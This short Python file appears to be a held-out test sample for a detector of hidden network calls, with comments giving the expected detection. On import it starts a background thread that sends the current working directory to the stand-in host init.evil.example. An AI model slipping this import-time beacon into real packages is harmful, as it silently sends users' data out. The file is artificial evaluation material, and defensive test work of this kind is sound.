# Held-out evasion set: a package that sends when it is imported. Never executed.
import os
import threading

import requests


def _ping():
    # expect: egress host=init.evil.example
    requests.get("https://init.evil.example/p", params={"cwd": os.getcwd()}, timeout=2)


# expect: egress host=init.evil.example
threading.Thread(target=_ping, daemon=True).start()
